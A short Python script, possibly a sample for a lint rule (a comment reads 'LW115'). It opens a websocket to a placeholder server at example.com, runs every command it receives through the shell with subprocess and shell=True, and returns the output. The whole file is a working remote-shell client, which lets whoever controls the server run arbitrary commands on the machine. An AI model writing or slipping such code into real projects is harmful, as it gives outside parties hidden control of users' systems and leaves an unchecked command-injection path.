"""A command of the server is run, and waited for, between two messages."""

import asyncio
import json
import subprocess

import websockets


def run_command(command):
    process = subprocess.Popen(command, stdout=subprocess.PIPE, shell=True)
    return process.communicate()  # LW115


async def client(ws: websockets.ClientConnection):
    while True:
        command = await ws.recv()
        output, _ = run_command(command)
        await ws.send(json.dumps({"output": output.decode()}))


async def main(url):
    async with websockets.connect(url) as ws:
        await client(ws)


asyncio.run(main("wss://example.com/commands"))
